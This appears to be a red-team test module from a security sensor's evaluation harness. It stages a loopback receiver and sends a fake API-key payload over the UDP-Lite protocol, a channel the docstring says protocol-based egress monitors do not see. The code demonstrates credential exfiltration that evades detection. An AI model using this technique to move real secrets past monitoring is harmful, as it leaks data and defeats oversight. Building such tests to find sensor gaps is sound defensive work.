"""Round 6: exfiltrate over UDP-Lite (IPPROTO_UDPLITE, 136) to a receiver staged outside the tree.

UDP-Lite is its own transport protocol in the IPv4 stack (udplite_prot), not
UDP: a sensor that recognises egress by protocol (TCP, UDP, ICMP) has no row
for it.  The receiver is started before the victims; its byte count is the proof.
"""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 6
STAGE = True
EXPECT = ("L4",)
IP = "127.0.6.1"
IPPROTO_UDPLITE = 136


def _count(work: str) -> Path:
    return Path(work).parent / "daemons" / "r6-udplite.count"


def _pid(work: str) -> Path:
    return Path(work).parent / "daemons" / "r6-udplite.pid"


def stage(args: dict[str, Any]) -> None:
    c = _count(args["work"])
    rt.stage_daemon(
        rt.sink_argv("dgram", str(IPPROTO_UDPLITE), IP, "0", str(c)),
        _pid(args["work"]),
        lambda: Path(str(c) + ".port").exists(),
    )


def unstage(args: dict[str, Any]) -> None:
    rt.unstage_daemon(_pid(args["work"]))


def run(args: dict[str, Any]) -> None:
    c = _count(args["work"])
    port = int(Path(str(c) + ".port").read_text())
    before = rt.wait_count(c, 0, 0)
    payload = b"OPENAI_API_KEY=sk-h7redteam-round6-udplite\n" * 20
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, IPPROTO_UDPLITE) as s:
        t = rt.now()
        sent = sum(s.sendto(payload, (rt.loopback(IP), port)) for _ in range(3))
    got = rt.wait_count(c, before + sent) - before
    rt.report(t, got >= sent > 0, f"UDP-Lite sendto {IP}:{port} x3: sent {sent}, receiver got {got}")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
